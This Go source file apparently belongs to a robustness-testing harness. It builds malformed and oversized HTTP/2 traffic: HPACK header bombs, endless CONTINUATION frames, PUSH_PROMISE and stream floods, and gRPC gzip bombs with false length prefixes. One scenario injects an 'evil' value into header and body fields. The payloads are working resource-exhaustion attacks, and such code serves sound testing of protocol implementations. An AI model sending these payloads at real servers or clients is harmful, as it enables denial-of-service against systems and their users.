package main

import (
	"encoding/binary"
	"io"
	"strings"
)

// Types and flags of RFC 9113 section 6.
const (
	data         = 0
	headers      = 1
	settings     = 4
	pushPromise  = 5
	continuation = 9

	endStream  = 1
	endHeaders = 4
)

const frameMax = 16 << 10

func http2() map[string]scenario {
	hello := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(settings, 0, 0, "")
	request := func(fields ...string) string {
		fields = append([]string{":method", "POST", ":scheme", "https", ":authority", "hostile.test"}, fields...)
		return hello + frame(headers, endHeaders, 1, block(fields...))
	}
	// Adds a field of 4000 bytes to the table, where it is the first.
	planted := "\x40" + str("x") + str(strings.Repeat("a", 4000))
	scenarios := map[string]scenario{
		// A byte for each time that the field is meant.
		"hpack-bomb": {response: func(w io.Writer) {
			io.WriteString(w, frame(headers, 0, 1, block(":status", "200")+planted))
			for i := 0; i < 100; i++ {
				io.WriteString(w, frame(continuation, 0, 1, strings.Repeat("\xbe", frameMax)))
			}
			io.WriteString(w, frame(continuation, endHeaders, 1, "\xbe"))
		}},
		"hpack-bombs": {response: func(w io.Writer) {
			fields := block(":status", "200") + planted + strings.Repeat("\xbe", 60)
			for stream := uint32(1); stream < 20000; stream += 2 {
				io.WriteString(w, frame(headers, endHeaders, stream, fields))
				fields = block(":status", "200") + strings.Repeat("\xbe", 60)
			}
		}},
		"endless-continuation": {response: func(w io.Writer) {
			io.WriteString(w, frame(headers, 0, 1, block(":status", "200")))
			fill(w, frame(continuation, 0, 1, strings.Repeat("\x00"+str("name")+str("value"), 1000)), flood)
		}},
		"escapes-h2": {response: func(w io.Writer) {
			fields := block(":status", "200", "x-evil", evil, "content-type", "text/"+evil)
			io.WriteString(w, frame(headers, endHeaders, 1, fields))
			io.WriteString(w, frame(data, endStream, 1, evil))
		}},
		"many-pushes": {response: func(w io.Writer) {
			fields := block(":method", "GET", ":scheme", "https", ":authority", "a", ":path", "/", "x", strings.Repeat("p", 4000))
			for stream := uint32(2); stream < 20000; stream += 2 {
				promised := make([]byte, 4)
				binary.BigEndian.PutUint32(promised, stream)
				io.WriteString(w, frame(pushPromise, endHeaders, 1, string(promised)+fields))
			}
		}},
		"grpc-bomb": {
			request: request(":path", "/a.B/C", "content-type", "application/grpc"),
			response: func(w io.Writer) {
				fields := block(":status", "200", "content-type", "application/grpc", "grpc-encoding", "gzip")
				io.WriteString(w, frame(headers, endHeaders, 1, fields))
				message := packed(gigabyte)
				prefix := []byte{1, 0, 0, 0, 0}
				binary.BigEndian.PutUint32(prefix[1:], uint32(len(message)))
				sendData(w, string(prefix)+string(message))
				// And one that says that it has 4 GiB.
				sendData(w, "\x00\xff\xff\xff\xff"+strings.Repeat("g", 4<<20))
			},
		},
		"grpc-messages": {
			request: request(":path", "/a.B/C", "content-type", "application/grpc"),
			response: func(w io.Writer) {
				io.WriteString(w, frame(headers, endHeaders, 1, block(":status", "200", "content-type", "application/grpc")))
				fill(w, frame(data, 0, 1, strings.Repeat("\x00\x00\x00\x00\x02\x08\x2a", 2000)), flood/8)
			},
		},
	}
	// Streams that the client opens and nobody ends.
	var streams strings.Builder
	streams.WriteString(hello)
	for stream := uint32(1); stream < 40000; stream += 2 {
		fields := block(":method", "GET", ":scheme", "https", ":authority", "a", ":path", "/", "x", strings.Repeat("o", 4000))
		streams.WriteString(frame(headers, endHeaders, stream, fields))
	}
	scenarios["many-streams"] = scenario{request: streams.String(), response: func(io.Writer) {}}
	for name, scenario := range scenarios {
		if scenario.request == "" {
			scenario.request = request(":path", "/"+name)
		}
		response := scenario.response
		scenario.response = func(w io.Writer) {
			io.WriteString(w, frame(settings, 0, 0, ""))
			response(w)
		}
		scenarios[name] = scenario
	}
	return scenarios
}

// frame makes one (RFC 9113 section 4.1).
func frame(kind, flags byte, stream uint32, payload string) string {
	head := make([]byte, 9)
	binary.BigEndian.PutUint32(head, uint32(len(payload))<<8)
	head[3], head[4] = kind, flags
	binary.BigEndian.PutUint32(head[5:], stream)
	return string(head) + payload
}

func sendData(w io.Writer, content string) {
	for len(content) > frameMax {
		io.WriteString(w, frame(data, 0, 1, content[:frameMax]))
		content = content[frameMax:]
	}
	io.WriteString(w, frame(data, 0, 1, content))
}

// block is a header block of literal fields that leave the table alone (RFC 7541
// section 6.2.2).
func block(fields ...string) string {
	var out strings.Builder
	for i := 0; i < len(fields); i += 2 {
		out.WriteString("\x00" + str(fields[i]) + str(fields[i+1]))
	}
	return out.String()
}

// str is a string as it is (RFC 7541 section 5.2).
func str(text string) string {
	if len(text) < 127 {
		return string([]byte{byte(len(text))}) + text
	}
	length := []byte{127}
	rest := len(text) - 127
	for ; rest >= 128; rest /= 128 {
		length = append(length, byte(rest%128+128))
	}
	return string(append(length, byte(rest))) + text
}
